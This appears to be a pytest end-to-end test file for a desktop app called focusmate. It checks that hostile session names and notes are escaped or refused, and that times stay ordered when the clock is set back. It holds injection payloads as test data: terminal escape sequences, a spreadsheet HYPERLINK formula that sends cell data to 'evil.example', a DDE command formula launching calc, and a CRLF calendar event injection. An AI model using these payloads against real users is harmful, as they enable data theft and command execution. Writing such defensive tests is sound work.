"""Issue 13 against the installed app: text at the boundaries (a terminal, a spreadsheet, a
calendar) and the clock set back across a restart.

Hostile names reach the app the ways they can: typed at `start`, saved by an older focusmate
(the running-session file), or imported. SIGTERM is tested in test_sigterm_e2e.py.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from focusmate.core.model import CoachingSession, Mark
from focusmate.storage.repository import TinyDBSessionRepository
from focusmate.storage.transfer import export_json
from tests.e2e.desktop import HeadlessDesktop
from tests.e2e.focusmate_app import RunningApp

pytestmark = pytest.mark.timeout(120)

#: What a terminal obeys: C0, DEL, C1, line/paragraph separators, bidirectional controls.
OBEYED = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
FAKE = "\x1b[2J\x1b[H\x1b[31mFAKE\x1b]0;owned\x07\u202e"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
#: Names are trimmed on import, so tab and CR can only lead a note.
NAME_FORMULAS = FORMULAS[:4]
#: An imported id that, written raw into UID:, ends the event and starts another.
EVENT_INJECTION = "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:y\r\nSUMMARY:injected"


def one_clean_line(text: str) -> bool:
    return text.endswith("\n") and OBEYED.search(text[:-1]) is None


def test_names_reach_the_terminal_escaped_and_typed_ones_are_refused(
    desktop: HeadlessDesktop, tmp_path: Path
) -> None:
    data = tmp_path / "data"
    started = datetime.now(UTC) - timedelta(minutes=5)  # saved by an older focusmate
    TinyDBSessionRepository(data).save(CoachingSession("old", FAKE, started, 30))
    app = RunningApp(desktop, data)
    try:
        status = app.cli("status")
        assert status.returncode == 0 and one_clean_line(status.stdout)
        assert status.stdout.startswith(
            "Coaching \\u001b[2J\\u001b[H\\u001b[31mFAKE\\u001b]0;owned\\u0007"
        )
        running = app.cli("start", "--with", "Ben")  # the app's refusal quotes the name
        assert running.returncode == 4 and one_clean_line(running.stderr)
        ended = app.cli("end")
        assert ended.returncode == 0 and one_clean_line(ended.stdout) and "\\u001b" in ended.stdout
        for typed in (["--with", FAKE], ["--with", "Ana", "--focus", "ok\r\nfocusmate: fine"]):
            refused = app.cli("start", *typed)
            assert refused.returncode == 2 and one_clean_line(refused.stderr)
            assert "control character" in refused.stderr
        assert app.status()["session"] is None  # nothing was started
    finally:
        app.stop()


def test_the_apps_log_escapes_names_too(desktop: HeadlessDesktop, tmp_path: Path) -> None:
    """Started from a terminal, the app logs to it: a file name in a start-up notice."""
    data = tmp_path / "data"
    data.mkdir(mode=0o700)
    hostile = data / "notes\x1b]0;owned\x07.txt"
    hostile.write_text("")
    hostile.chmod(0o644)  # others could read it: the start-up notice names it
    app = RunningApp(desktop, data)
    try:
        log = desktop.read_log(f"focusmate-{data.name}")
        assert "Others could read some of your focusmate files" in log
        assert "notes\\u001b]0;owned\\u0007.txt" in log and "\x1b" not in log
    finally:
        app.stop()


def test_exports_keep_hostile_text_as_data(desktop: HeadlessDesktop, tmp_path: Path) -> None:
    day = datetime(2026, 11, 23, 9, tzinfo=UTC)
    sessions = [
        CoachingSession(
            EVENT_INJECTION if i == 0 else f"s{i}",
            NAME_FORMULAS[i % len(NAME_FORMULAS)],
            day + timedelta(days=i),
            30,
            focus=FORMULAS[i % len(FORMULAS)],
            ended_at=day + timedelta(days=i, minutes=30),
        )
        for i in range(11)
    ]
    imported = tmp_path / "hostile.json"
    imported.write_text(export_json(sessions))
    app = RunningApp(desktop, tmp_path / "data")
    try:
        assert app.cli("import", str(imported)).returncode == 0
        rows = list(csv.DictReader(io.StringIO(exported(app, "csv"), newline="")))
        assert len(rows) == 11
        assert {row["with"] for row in rows} == {"'" + formula for formula in NAME_FORMULAS}
        assert {row["focus"] for row in rows} == {"'" + formula for formula in FORMULAS}
        lines = exported(app, "ics").replace("\r\n ", "").split("\r\n")[:-1]
        assert all(re.fullmatch(r"[A-Z][A-Z-]*:[^\r\n]*", line) for line in lines)
        assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT") == 11
        assert sum(line.startswith("UID:") for line in lines) == 11
        # The exact text stays in the JSON export.
        as_json = json.loads(app.cli("export", "--format", "json").stdout)["sessions"]
        assert {s["id"] for s in as_json} == {s.id for s in sessions}
    finally:
        app.stop()


def exported(app: RunningApp, file_format: str) -> str:
    """An export as written to a file, read without translating line ends."""
    target = app.data_dir.parent / f"export.{file_format}"
    assert app.cli("export", "--format", file_format, "--output", str(target)).returncode == 0
    with target.open(newline="") as written:
        return written.read()


def test_a_restart_with_the_clock_set_back_keeps_time_and_marks_in_order(
    desktop: HeadlessDesktop, tmp_path: Path
) -> None:
    data = tmp_path / "data"
    started = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=20)
    marked = started + timedelta(minutes=10)
    TinyDBSessionRepository(data).save(
        CoachingSession("run", "Ana", started, 30, marks=(Mark("phone", marked),))
    )
    set_back = (datetime.now(UTC) - timedelta(hours=2)).isoformat()
    app = RunningApp(desktop, data, extra_env={"FOCUSMATE_FAKE_NOW": set_back})
    try:
        session = app.status()["session"]
        assert session["elapsed_s"] >= 600  # at least up to the saved mark, not back at 0
        assert app.cli("log", "app").returncode == 0
        assert app.cli("end").returncode == 0
        (saved,) = app.exported_sessions()
        stamps = [datetime.fromisoformat(mark["at"]) for mark in saved["marks"]]
        assert [mark["kind"] for mark in saved["marks"]] == ["phone", "app"]
        assert stamps == sorted(stamps) and stamps[0] == marked
        assert datetime.fromisoformat(saved["ended_at"]) >= stamps[-1]
    finally:
        app.stop()
